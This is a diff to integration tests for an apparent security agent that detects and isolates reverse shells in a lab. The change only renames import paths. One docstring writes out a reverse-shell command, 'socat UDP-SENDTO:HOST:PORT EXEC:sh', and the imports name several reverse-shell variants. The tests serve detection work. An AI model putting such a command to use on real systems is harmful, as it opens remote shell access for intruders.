@@ -23,13 +23,13 @@ from pathlib import Path
 
 import pytest
 
-from agent.breachlab import (BASH_TCP, FIFO, FIFO_RELAYED, PTY_RELAY, PY_PTY, SOCAT,
+from swarmlab.breachlab import (BASH_TCP, FIFO, FIFO_RELAYED, PTY_RELAY, PY_PTY, SOCAT,
                              ShellListener, agent_config, cgroup_path, python_wiring,
                              reverse_shell, run_wiring, scoped_rules, throwaway_cgroup)
 from agent.enforce.cgroup import cgroup2_mount
 from agent.config import REMOTE_ACCESS, SERVICE_MANAGERS, Breach, Config, Probes
 from agent.detect.rules import Detector, load_rules
-from agent.lab import Lab, wait_for as wait_for_state
+from swarmlab.lab import Lab, wait_for as wait_for_state
 from agent.sources import stdio
 from tests.conftest import skip_unsupported
 from tests.integration.test_proc_identity import btrfs_image
@@ -314,7 +314,7 @@ def test_agent_isolates_a_mkfifo_reverse_shell(lab, tmp_path):
     """End to end through a real agent (`swarm-agent run` in the victim namespace, only
     breach.stdio_network among the breach rules): the wiring's cgroup is frozen and its
     connection cut, and the incident names the rule."""
-    from agent.scenario import AgentProcess
+    from swarmlab.scenario import AgentProcess
     from tests.integration.test_breach_e2e import DEADLINE_S, agent_stopped, cli, incident_of
 
     rules = scoped_rules(tmp_path / "rules", ("breach.stdio_network",))
@@ -407,7 +407,7 @@ def test_shell_reading_a_fifo_on_btrfs(probe, detector, lab, btrfs_dir):
 def test_socat_udp_sendto(probe, detector, lab):
     """`socat UDP-SENDTO:HOST:PORT EXEC:sh`: socat's UDP socket is never connected
     (sendto), so /proc/net/udp shows no remote address; it still reaches anyone."""
-    from agent.lab import netns
+    from swarmlab.lab import netns
     with netns(lab.attacker):
         srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         srv.bind((lab.addr("attacker"), 0))
